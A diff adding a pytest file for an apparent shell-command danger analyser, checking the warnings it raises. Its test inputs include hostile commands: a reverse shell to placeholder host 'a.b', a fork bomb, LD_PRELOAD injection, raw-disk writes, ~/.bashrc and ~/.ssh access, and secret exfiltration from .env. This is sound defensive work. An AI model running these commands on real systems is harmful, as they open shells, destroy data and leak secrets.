@@ -1,0 +1,179 @@
+"""Commands are followed: words expanded, pipes and files remembered, deeds noted."""
+
+from __future__ import annotations
+
+import pytest
+
+from feishuperm.danger.scene import (
+    DECODED,
+    DOWNLOADED,
+    MAX_SEARCHED,
+    MAX_SHOWN,
+    MAX_WHATS,
+    SECRET,
+    Arg,
+    Args,
+    Findings,
+    Flow,
+    Scene,
+)
+from tests.danger.stage import Stage
+
+
+@pytest.mark.parametrize(
+    ("text", "calls"),
+    [
+        ("a $HOME/x", ["a /home/me/x"]),
+        ("X='b c'; a $X", ["a b c"]),
+        ("X=b; X+=c; a $X", ["a bc"]),
+        ("X=b a $X", ["a \0"]),
+        ("a $NOSUCH", ["a \0"]),
+        ("a ${X:-b} ${HOME:+c}", ["a \0 b /home/me c"]),
+        ("a {b,c}d '{e,f}'", ["a bd cd {e,f}"]),
+        ("set x; (X=b); a $X", ["set x", "a \0"]),
+        ("for i in b c; do a $i; done", ["a b c"]),
+        ("a; b && c || d", ["a", "b", "c", "d"]),
+        ("/usr/bin/RM.exe x", ["rm x"]),
+        ("python3.11 x", ["python x"]),
+        ("./rm x", ["./rm x"]),
+        ("../../../bin/rm x", ["rm x"]),
+        ("r? x", ["rm x"]),
+        ("PAGER='rm x' git log", ["rm x", "git log"]),
+        ("$X -rf y", ["rm -rf y"]),
+        ("a $(b)", ["b", "a \0"]),
+    ],
+)
+def test_words_are_expanded_as_far_as_the_text_tells(
+    text: str, calls: list[str]
+) -> None:
+    stage = Stage()
+    stage.scene.run(text)
+    assert stage.calls == calls
+
+
+def test_what_flows_through_pipes_and_files_is_known() -> None:
+    stage = Stage()
+    flows: list[Flow] = []
+
+    def gets(scene: Scene, name: str, args: Args, flow: Flow) -> Flow:
+        flows.append(flow)
+        return Flow(None, DOWNLOADED, "a.b") if "get" in args else flow
+
+    stage.scene.programs = {**stage.scene.programs, "cat": gets}
+    stage.scene.run("cat <<< x | cat; cat <<'E'\n$y\nE\n")
+    assert [flow.text for flow in flows] == ["x", "x", "$y\n"]
+    stage.scene.run("cat get > x; cat < x; ./x; cp x y")
+    assert flows[-1].origin == DOWNLOADED
+    assert stage.notes == ["danger.downloaded a.b"]
+    stage.calls.clear()
+    stage.scene.run("cat <<< 'rm z' > y; ./y; ./y; cat <<< w >> y; ./y")
+    assert stage.calls == ["rm z", "./y", "./y", "rm zw", "./y"]  # read once each
+
+
+@pytest.mark.parametrize(
+    ("text", "notes"),
+    [
+        ("a > /srv/x", ["danger.overwrite /srv/x"]),
+        ("a >> /srv/x", ["fact.outside /srv/x"]),
+        ("a > x 2>&1", []),
+        ("a > /dev/null", []),
+        ("a > /dev/sda", ["danger.device /dev/sda"]),
+        ("a > ~/.bashrc", ["danger.startup ~/.bashrc"]),
+        ("a > $X", ["fact.opaque > …"]),
+        ("a < ~/.ssh/x", ["fact.keys ~/.ssh/x"]),
+        ("bash >& /dev/tcp/a.b/1", ["danger.downloaded a.b", "fact.host a.b"]),
+        ("LD_PRELOAD=./x.so a", ["danger.inject LD_PRELOAD=./x.so"]),
+        (":(){ :|:& };:", ["danger.machine :(){ :|:& };:"]),
+        ("a 'b", ["fact.unread"]),
+        ("rm 'b", ["danger.unread rm", "fact.unread"]),
+        ("$X", ["fact.opaque …"]),
+    ],
+)
+def test_what_a_shell_does_itself_is_noted(text: str, notes: list[str]) -> None:
+    stage = Stage()
+    stage.scene.run(text)
+    assert stage.notes == notes
+
+
+@pytest.mark.parametrize(
+    ("path", "recursive", "note"),
+    [
+        ("x", True, "fact.deletes x"),
+        (".", True, "danger.wipe ~/app"),
+        (".git", True, "danger.wipe .git"),
+        ("~/x", False, "danger.delete ~/x"),
+        ("/tmp/x", True, "fact.deletes /tmp/x"),
+        ("/tmp/*", False, "danger.delete /tmp/*"),
+        ("\0/x", True, "danger.unsure …/x"),
+        ("\0/x", False, "fact.deletes …/x"),
+        ("/dev/sda", False, "danger.device /dev/sda"),
+        (".git/hooks/x", False, "danger.permissions .git/hooks/x"),
+    ],
+)
+def test_deletion_is_noted_by_its_place(path: str, recursive: bool, note: str) -> None:
+    stage = Stage()
+    stage.scene.deletes(path, recursive)
+    stage.scene.deletes("/dev/null", recursive)
+    assert stage.notes == [note]
+
+
+def test_file_is_rewritten_of_note_if_it_governs_others() -> None:
+    stage = Stage()
+    stage.scene.rewrites("/srv/x")
+    stage.scene.rewrites(".git/config")
+    assert stage.notes == ["danger.permissions .git/config"]
+
+
+def test_secret_leaks_to_others_alone() -> None:
+    stage = Stage()
+    flow = stage.scene.reads(".env") or Flow()
+    assert flow.trace == (SECRET, ".env")
+    stage.scene.leaks(flow, "localhost")
+    stage.scene.leaks(Flow("x"), "a.b")
+    assert stage.notes == []
+    stage.scene.leaks(flow, "a.b")
+    assert stage.notes == ["danger.leak .env → a.b"]
+
+
+def test_what_comes_from_elsewhere_is_run() -> None:
+    stage = Stage()
+    stage.scene.run(Arg("a", DECODED, "base64"))
+    stage.scene.run_input(Flow(None, DOWNLOADED, "a.b"))
+    stage.scene.run_input(Flow(None))
+    stage.scene.brings("x", "c.d")
+    stage.scene.run("x/y/z; xy/z; x/y")
+    assert stage.notes == [
+        *("danger.decoded base64", "danger.downloaded a.b, c.d", "fact.opaque"),
+    ]
+
+
+def test_trace_is_that_of_whatever_has_one() -> None:
+    assert Flow("a").mixed(Flow("b", SECRET, "c")) == Flow(None, SECRET, "c")
+    assert Flow("a", DECODED, "d").mixed(Flow("b", SECRET, "c")).origin == DECODED
+
+
+def test_elsewhere_paths_are_not_ours() -> None:
+    stage = Stage()
+    stage.scene.run("a > x", foreign=True)
+    assert stage.notes == ["danger.overwrite x"] and not stage.scene.foreign
+
+
+def test_too_deep_or_too_long_is_unread() -> None:
+    stage = Stage()
+    stage.scene.depth = 12
+    stage.scene.run("rm x")
+    assert stage.notes == ["danger.unread rm", "fact.unread"] and not stage.calls
+    stage.scene.unread("x" * (MAX_SEARCHED + 1))
+    assert stage.notes == ["danger.unread rm, …", "fact.unread"]
+    assert not Stage().scene.spend(10**9, 1)
+
+
+def test_things_are_noted_once_masked_and_bounded() -> None:
+    findings = Findings(lambda text: text.replace("key", "***"))
+    for what in ("key", "key", "\0", ""):
+        findings.add("danger.keys", what)
+    assert findings.marks == {"danger.keys": ["***", "…"]} and not findings.facts
+    for number in range(MAX_WHATS + 5):
+        findings.add("fact.host", f"{number}" * MAX_SHOWN * 9)
+    assert len(findings.facts["fact.host"]) == MAX_WHATS
+    assert max(map(len, findings.facts["fact.host"])) == MAX_SHOWN * 4
